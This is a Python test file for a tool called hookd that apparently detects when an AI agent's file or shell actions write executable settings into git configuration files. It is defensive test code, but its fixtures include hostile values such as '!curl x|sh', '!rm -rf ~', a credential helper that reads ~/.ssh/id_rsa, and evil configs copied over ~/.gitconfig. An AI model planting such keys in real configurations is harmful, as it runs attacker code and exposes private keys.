"""hookd.enrich.gitconfig_text: the executing keys a file tool writes into a git configuration file."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from hookd.enrich.gitconfig_text import executing_keys, included_configs, is_git_config
from hookd.enrich.shell.analysis import analyse_shell as shell_effects
from tests.unit.enrich.test_tool_effects import HOME, enriched


@pytest.mark.parametrize(
    ("path", "config"),
    [
        ("/home/a/.gitconfig", True),
        ("/home/a/.config/git/config", True),
        ("/etc/gitconfig", True),
        ("/p/.git/config", True),
        ("/p/.git/worktrees/w/config.worktree", True),
        ("/p/.git/modules/sub/config", True),
        ("/p/config", False),
        ("/p/docs/gitconfig.md", False),
        ("/p/.gitmodules", False),
    ],
)
def test_which_files_git_reads_as_configuration(path: str, config: bool) -> None:
    assert is_git_config(path) is config


@pytest.mark.parametrize(
    ("text", "keys"),
    [
        ("[core]\n\tfsmonitor = sh -c id\n", [("core.fsmonitor", "sh -c id")]),
        ('[filter "x"]\n\tsmudge = ./x.sh\n', [("filter.x.smudge", "./x.sh")]),
        ("[alias]\n\tst = !sh -c id\n\tco = checkout\n", [("alias.st", "!sh -c id")]),
        ("[alias]\n\tx = -c core.pager=id log\n", [("alias.x", "-c core.pager=id log")]),
        ("[core]\n\tpager = delta\n\teditor = vim\n[credential]\n\thelper = store\n", []),
        ("\tsshCommand = ssh -o ProxyCommand=id\n", [("sshcommand", "ssh -o ProxyCommand=id")]),  # no header
        ("[user]\n\tname = A\n[core] hooksPath = /tmp/h\n", [("core.hookspath", "/tmp/h")]),
        ("+[core]\n+\tpager = sh -c id\n", [("core.pager", "sh -c id")]),  # a patch's added lines
    ],
)
def test_the_keys_whose_value_git_runs(text: str, keys: list[tuple[str, str]]) -> None:
    assert executing_keys(text) == keys


def test_a_tool_writing_an_executing_key_into_the_global_git_config(tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    write = {"file_path": f"{HOME}/.gitconfig", "content": "[core]\n\tfsmonitor = sh -c id\n"}
    event = enriched("claude", "Write", write, proj)
    keyed = [e for e in event.facts["effects"] if e.get("key")]
    assert keyed == [
        {**keyed[0], "op": "write", "path": f"{HOME}/.gitconfig", "key": "core.fsmonitor", "executes": True}
    ]
    edit = {"file_path": f"{HOME}/.gitconfig", "edits": [{"old_string": "a", "new_string": "[alias]\n\tx = !id"}]}
    assert any(e.get("key") == "alias.x" for e in enriched("claude", "MultiEdit", edit, proj).facts["effects"])
    plain = {"file_path": f"{HOME}/.gitconfig", "content": "[user]\n\tname = A\n"}
    assert not any(e.get("key") for e in enriched("claude", "Write", plain, proj).facts["effects"])


RUN = (1 << 20) // 3 - 16  # three runs of blanks fill a text of the largest size read (MAX_TEXT)


@pytest.mark.timeout(60)  # a matcher quadratic in a line's length takes hours on these (pytest fails it here)
@pytest.mark.parametrize(
    ("text", "keys"),
    [
        ("[core]\nfsmonitor = a" + " " * RUN + "b" + "\t" * RUN, [("core.fsmonitor", "a" + " " * RUN + "b")]),
        ("[core]\n" + " " * RUN + "pager" + " " * RUN + "=" + " " * RUN + "id", [("core.pager", "id")]),
        ("[core]\npager" + " " * RUN + "x" + " " * RUN, []),  # no `=`: not a key
        ("[core]" + " " * RUN + "editor = sh" + " " * RUN + "#" + " " * RUN, [("core.editor", "sh")]),
        ('[core "' + " " * RUN + "\n[alias]\tx = !id" + " " * RUN, [("alias.x", "!id")]),
    ],
    ids=["value", "around-the-key", "no-equals", "after-a-header", "open-subsection"],
)
def test_a_line_of_the_largest_size_read_with_long_blank_runs_is_read_in_one_pass(
    text: str, keys: list[tuple[str, str]]
) -> None:
    assert len(text) <= 1 << 20
    assert executing_keys(text) == keys


# --- a write whose resulting text cannot be judged whole: code git may run, not known (asked)

GITCONFIG = "[core]\n\teditor = vim\n[alias]\n\tlg = log --graph\n"


def _config_effects(event: Any) -> list[tuple[str, str, str, bool]]:
    return [
        (e["op"], str(e.get("key", "")), str(e.get("config", "")), e["known"])
        for e in event.facts["effects"]
        if e.get("key") or e.get("config") or e["op"] == "exec"
    ]


@pytest.fixture
def config_file(tmp_path: Path) -> Path:
    path = tmp_path / "home" / ".gitconfig"
    path.parent.mkdir()
    path.write_text(GITCONFIG)
    return path


@pytest.mark.parametrize(
    ("tool", "tool_input", "key"),
    [
        ("Edit", {"old_string": "vim", "new_string": "sh -c id"}, "core.editor"),
        ("Edit", {"old_string": "log --graph", "new_string": "!curl x|sh"}, "alias.lg"),
        ("Edit", {"old_string": "[alias]", "new_string": "[core]", "replace_all": True}, "core.lg"),
        ("MultiEdit", {"edits": [{"old_string": "vim", "new_string": "./x.sh"}]}, "core.editor"),
        ("mcp__filesystem__edit_file", {"edits": [{"oldText": "vim", "newText": "./x.sh"}]}, "core.editor"),
    ],
)
def test_an_edit_is_judged_on_the_file_as_it_leaves_it(
    config_file: Path, tmp_path: Path, tool: str, tool_input: dict[str, Any], key: str
) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    arg = "path" if tool.startswith("mcp__") else "file_path"
    keyed = _config_effects(enriched("claude", tool, {arg: str(config_file), **tool_input}, proj))
    assert ("write", key, "", True) in keyed or key == "core.lg"  # `lg` is no executing key of core
    if key == "core.lg":
        assert keyed == []
    plain = {arg: str(config_file), **({"edits": [{"old_string": "vim", "new_string": "nano"}]} if "edits" in tool_input
                                       else {"old_string": "vim", "new_string": "nano"})}  # fmt: skip
    if tool.startswith("mcp__"):
        plain = {arg: str(config_file), "edits": [{"oldText": "vim", "newText": "nano"}]}
    assert _config_effects(enriched("claude", tool, plain, proj)) == []


def test_an_edit_of_a_configuration_that_cannot_be_read_is_code_not_known(tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    fifo, binary = tmp_path / "fifo" / ".gitconfig", tmp_path / "bin" / ".gitconfig"
    fifo.parent.mkdir()
    os.mkfifo(fifo)  # never opened for reading: the daemon would wait on it
    binary.parent.mkdir()
    binary.write_bytes(b"[core]\n\teditor = \xff\n")
    for path in (fifo, binary):
        edit = {"file_path": str(path), "old_string": "vim", "new_string": "nano"}
        assert _config_effects(enriched("claude", "Edit", edit, proj)) == [("exec", "", str(path), False)]
    missing = {"file_path": str(tmp_path / ".gitconfig"), "old_string": "vim", "new_string": "nano"}
    assert _config_effects(enriched("claude", "Edit", missing, proj)) == []  # the edit fails: nothing changes


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("mcp__filesystem__move_file", {"source": "{proj}/evil.cfg", "destination": "{config}"}),
        ("mcp__fs__copy_file", {"source": "{proj}/evil.cfg", "destination": "{config}"}),
        ("mcp__fs__append_file", {"path": "{config}", "content": "[user]\n\tname = A\n"}),  # no table: not whole
        ("mcp__fs__insert_text", {"path": "{config}", "line": "3", "text": "[core]"}),
    ],
)
def test_a_move_copy_or_unknown_write_onto_a_configuration_is_code_not_known(
    config_file: Path, tmp_path: Path, tool: str, tool_input: dict[str, str]
) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "evil.cfg").write_text("[core]\n\tfsmonitor = ./x.sh\n")
    filled = {k: v.format(proj=proj, config=config_file) for k, v in tool_input.items()}
    assert ("exec", "", str(config_file), False) in _config_effects(enriched("claude", tool, filled, proj))


def test_a_write_of_the_whole_text_is_judged_by_its_keys_only(config_file: Path, tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    write = {"file_path": str(config_file), "content": "[user]\n\tname = A\n"}
    assert _config_effects(enriched("claude", "Write", write, proj)) == []


@pytest.mark.parametrize(
    "command",
    [
        "printf '[core]\\n\\tfsmonitor = evil\\n' > ~/.gitconfig",
        "cp evil.cfg ~/.gitconfig",
        "mv evil.cfg ~/.config/git/config",
        "ln -sf evil.cfg ~/.gitconfig",
        "sed -i s/vim/nano/ ~/.gitconfig",
        "echo x >> .git/config",
        "XDG_CONFIG_HOME=/home/u/cfg; cat evil.cfg > $XDG_CONFIG_HOME/git/config",
        "cat evil.cfg > /srv/repo.git/config",  # a bare repository's
    ],
)
def test_a_shell_write_into_a_configuration_is_code_not_known(tmp_path: Path, command: str) -> None:
    found = shell_effects(command, home="/home/u", base_dir=str(tmp_path), project_dir=str(tmp_path))[1]
    unknown = [e for e in found if e["op"] == "exec" and e.get("config")]
    assert len(unknown) == 1 and unknown[0]["known"] is False and is_git_config(str(unknown[0]["config"]))


# git-config(1), "Includes": an included file's keys are read as if they were in the including file, so a
# shell write into one writes the git configuration (`>> ~/.gitconfig-work`), as a file tool's write does
@pytest.mark.parametrize(
    ("command", "unknown"),
    [
        ("printf '[core]\\n\\tfsmonitor = x\\n' >> ~/.gitconfig-work", True),
        ("sed -i '$a [core]\\n\\tfsmonitor = x' .gitconfig.shared", True),
        ("cat evil.cfg > .gitconfig.shared", True),
        ("echo '*.log' >> .gitignore", False),
        ("sed -i s/a/b/ README.md", False),
        ("cat ~/.gitconfig-work", False),
    ],
)
def test_a_shell_write_into_an_included_configuration_is_code_not_known(
    tmp_path: Path, command: str, unknown: bool
) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    home.mkdir()
    (home / ".gitconfig").write_text("[include]\n\tpath = ~/.gitconfig-work\n")
    (home / ".gitconfig-work").write_text("[user]\n\temail = a@example.com\n")
    (project / ".git" / "config").write_text("[include]\n\tpath = ../.gitconfig.shared\n")
    (project / ".gitconfig.shared").write_text("[alias]\n\tst = status\n")
    found = shell_effects(command, home=str(home), base_dir=str(project), project_dir=str(project))[1]
    configs = [e["config"] for e in found if e["op"] == "exec" and e.get("config")]
    assert bool(configs) is unknown and all(e.get("known") is False for e in found if e.get("config"))


@pytest.mark.parametrize(
    "command", ["git config --global user.name x", "git commit -qm x", "git add .", "git init", "echo x > notes"]
)
def test_git_config_of_one_key_and_everyday_git_are_no_unknown_code(tmp_path: Path, command: str) -> None:
    found = shell_effects(command, home="/home/u", base_dir=str(tmp_path), project_dir=str(tmp_path))[1]
    assert [e for e in found if e["op"] == "exec"] == []


# Everyday `git config` from the docs (GitHub's "Associating text editors with Git", VS Code's "Use VS Code as
# the Git editor", git-credential-cache(1)): a viewer, editor or shipped helper with option words, a tool's name,
# an alias of a git subcommand run nothing hookd cannot judge, in the shell and in a file tool's text alike.
@pytest.mark.parametrize(
    ("key", "value", "runs"),
    [("core.editor", "nano -w", False), ("core.editor", "code --wait", False),
     ("credential.helper", "cache --timeout=3600", False), ("diff.tool", "vscode", False),
     ("merge.tool", "vimdiff", False), ("alias.co", "checkout", False), ("alias.lg", "log --oneline --graph", False),
     ("core.editor", "nano -w; id", True), ("core.pager", "less -R $(id)", True), ("diff.tool", "sh -c id", True),
     ("core.editor", "vim -c '!id'", True), ("alias.x", "!rm -rf ~", True), ("alias.z", "!git log | head", True),
     ("credential.helper", "!f() { cat ~/.ssh/id_rsa; }; f", True), ("core.fsmonitor", "cat", False),
     ("core.fsmonitor", "./fsmonitor.sh", True), ("core.editor", "vim -S/tmp/x.vim", True),
     ("core.editor", "vim -Sx", True), ("core.editor", "code --wait --extensionDevelopmentPath=/tmp/e", True),
     ("credential.helper", "cache --socket=/tmp/s", True), ("credential.helper", "store --file=/tmp/c", True),
     ("core.pager", "less -R", False), ("core.pager", "less -FRXS", False), ("core.pager", "less -k/tmp/k", True)],
)  # fmt: skip
def test_a_value_git_runs_is_judged_by_what_it_runs(key: str, value: str, runs: bool, tmp_path: Path) -> None:
    import shlex

    _, found = shell_effects(
        f"git config --global {key} {shlex.quote(value)}", home=HOME, base_dir=str(tmp_path), project_dir=str(tmp_path)
    )
    (write,) = [e for e in found if e["op"] == "write" and e.get("key")]
    assert write["executes"] is runs
    section, _, name = key.partition(".")
    assert bool(executing_keys(f"[{section}]\n\t{name} = {value}\n")) is runs


@pytest.mark.timeout(20)
def test_an_included_fifo_does_not_stall_and_a_linked_config_is_read(tmp_path: Path) -> None:
    """Git configuration is read from regular files only (an open of a FIFO waits for a writer: the decision would
    stall), through a link too (a dotfiles manager links ~/.gitconfig)."""
    home, project = tmp_path / "home", tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "gitconfig").write_text("[include]\n\tpath = ~/aliases.inc\n\tpath = ~/fifo\n")
    home.mkdir()
    (home / ".gitconfig").symlink_to(dotfiles / "gitconfig")
    (home / "aliases.inc").write_text("[alias]\n\tst = status\n")
    os.mkfifo(home / "fifo")
    found = included_configs(str(home), str(project))
    assert str(home / "aliases.inc") in found and str(home / "fifo") in found
